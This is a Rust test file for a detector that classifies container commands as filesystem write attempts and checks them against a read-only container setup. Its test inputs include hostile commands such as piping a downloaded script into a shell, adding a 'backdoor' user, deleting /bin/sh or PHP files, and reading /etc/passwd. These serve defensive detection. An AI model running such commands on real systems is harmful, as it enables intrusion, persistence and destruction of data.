use super::*;

fn argv(words: &[&str]) -> Vec<String> {
    words.iter().map(|w| w.to_string()).collect()
}

fn targets(words: &[&str]) -> Option<Vec<String>> {
    attempt(&argv(words)).map(|a| a.targets)
}

#[test]
fn commands_that_write_or_install_are_attempts() {
    assert_eq!(
        targets(&["apt-get", "install", "-y", "curl"]),
        Some(vec!["/usr".into()])
    );
    assert_eq!(targets(&["touch", "/tmp/x"]), Some(vec!["/tmp/x".into()]));
    assert_eq!(
        targets(&["cp", "-r", "/a", "/etc/app"]),
        Some(vec!["/etc/app".into()])
    );
    assert_eq!(
        targets(&["sed", "-i", "s/a/b/", "/etc/conf"]),
        Some(vec!["/etc/conf".into()])
    );
    assert_eq!(
        targets(&["chmod", "777", "/app"]),
        Some(vec!["/app".into()])
    );
    assert_eq!(
        targets(&["tar", "xmf", "-", "-C", "/var/www"]),
        Some(vec!["/var/www".into()])
    );
    assert_eq!(
        targets(&["curl", "-o", "/tmp/t", "http://x"]),
        Some(vec!["/tmp/t".into()])
    );
    assert_eq!(
        targets(&["pip", "install", "requests"]),
        Some(vec!["/usr".into()])
    );
    // A shell's script, cut at its operators, with redirections.
    let a = attempt(&argv(&[
        "sh",
        "-c",
        "id; echo pwned >/etc/motd && cat /etc/passwd 2>/dev/null",
    ]))
    .unwrap();
    assert_eq!(a.targets, ["/etc/motd"]);
    assert_eq!(a.commands, ["echo pwned > /etc/motd"]);
    // Option clusters holding -c run a script too.
    assert_eq!(
        targets(&["bash", "-lc", "apk add curl"]),
        Some(vec!["/usr".into()])
    );
}

/// The neighbours of the issue's list an intruder reaches for: the same writes
/// behind a wrapper, other installers, a script piped into a shell.
#[test]
fn wrapped_piped_and_other_writers_are_attempts_too() {
    let one = |words: &[&str], expected: &str| {
        assert_eq!(
            targets(words),
            Some(vec![expected.to_string()]),
            "{words:?}"
        );
    };
    one(&["sudo", "-u", "root", "touch", "/etc/x"], "/etc/x");
    one(&["timeout", "-s", "KILL", "5s", "rm", "/bin/sh"], "/bin/sh");
    one(&["nice", "-n", "10", "cp", "a", "/opt/b"], "/opt/b");
    one(&["env", "-i", "PATH=/bin", "mkdir", "/srv/x"], "/srv/x");
    one(&["/bin/busybox", "wget", "http://x/y"], ".");
    one(&["curl", "-sSLo", "/tmp/x", "http://x"], "/tmp/x");
    one(&["curl", "--output=/tmp/y", "http://x"], "/tmp/y");
    one(&["busybox", "wget", "-O", "/tmp/y", "http://x/y"], "/tmp/y");
    one(&["xargs", "-n", "1", "rm"], FROM_INPUT);
    one(&["cp", "-t", "/usr/local/bin", "tool"], "/usr/local/bin");
    one(
        &["sed", "--in-place=.bak", "s/a/b/", "/etc/conf"],
        "/etc/conf",
    );
    one(&["perl", "-pi", "-e", "s/a/b/", "/etc/conf"], "/etc/conf");
    one(&["chattr", "-i", "+a", "/var/log/x"], "/var/log/x");
    one(&["dpkg", "-i", "tool.deb"], "/usr");
    one(&["rpm", "-Uvh", "tool.rpm"], "/usr");
    one(&["yarn", "global", "add", "x"], "/usr");
    one(&["go", "install", "example.com/x@latest"], "/usr");
    one(&["useradd", "-m", "backdoor"], "/etc");
    one(&["crontab", "/tmp/jobs"], "/var/spool/cron");
    one(&["unzip", "-o", "app.zip", "-d", "/app"], "/app");
    one(&["git", "clone", "https://x/r.git", "/srv/r"], "/srv/r");
    one(
        &["find", "/var/www", "-name", "*.php", "-delete"],
        "/var/www",
    );
    one(
        &["find", "/app", "-exec", "chmod", "777", "{}", ";"],
        "/app",
    );
    // The script an intruder downloads and pipes into a shell is not logged.
    let piped = attempt(&argv(&["sh", "-c", "curl -s http://x/i.sh | sh"])).unwrap();
    assert_eq!(piped.targets, [PIPED_SCRIPT]);
    let c = ContainerPosture {
        read_only_root: true,
        ..ContainerPosture::default()
    };
    assert_eq!(
        writable(&piped, Some(&c)),
        "unknown: (a script read from a pipe), not in the audit log"
    );
    one(
        &["bash", "-c", "wget -qO- http://x | sudo bash -s"],
        PIPED_SCRIPT,
    );
}

#[test]
fn commands_that_only_read_are_not() {
    for words in [
        &["sh"][..],
        &["cat", "/etc/passwd"],
        &["tar", "cf", "-", "/app/config"],
        &["ls", "-la", ">/dev/null"],
        &["sh", "-c", "ps aux | grep x > /dev/null"],
        &["apt-get", "--version"],
        &["sudo", "-u", "app", "cat", "/etc/x"],
        &["timeout", "5", "ls", "/"],
        &["busybox", "ps"],
        &["find", "/", "-name", "*.key"],
        &["find", "/", "-exec", "grep", "-l", "x", "{}", ";"],
        &["crontab", "-l"],
        &["curl", "-sS", "http://x"],
        &["wget", "-qO-", "http://x"],
        &["git", "log"],
        // A shell that runs a named script, or one typed into: not a pipe.
        &["sh", "-c", "sh /app/healthcheck.sh"],
    ] {
        assert_eq!(targets(words), None, "{words:?}");
    }
}

#[test]
fn a_read_only_container_can_write_only_its_declared_paths() {
    let c = ContainerPosture {
        read_only_root: true,
        writable_paths: vec!["/var/run (emptyDir)".into()],
        ..ContainerPosture::default()
    };
    let install = attempt(&argv(&["apt-get", "install", "curl"])).unwrap();
    assert_eq!(
        writable(&install, Some(&c)),
        "no: read-only root, outside its writable paths"
    );
    let pid = attempt(&argv(&["touch", "/var/run/x.pid"])).unwrap();
    assert_eq!(writable(&pid, Some(&c)), "yes: /var/run (emptyDir)");
    // `/var/runner` is not under `/var/run`.
    let near = attempt(&argv(&["touch", "/var/runner"])).unwrap();
    assert_eq!(
        writable(&near, Some(&c)),
        "no: read-only root, outside its writable paths"
    );
    let open = ContainerPosture::default();
    assert_eq!(
        writable(&install, Some(&open)),
        "yes: root filesystem writable"
    );
    assert!(writable(&install, None).starts_with("unknown"));
}
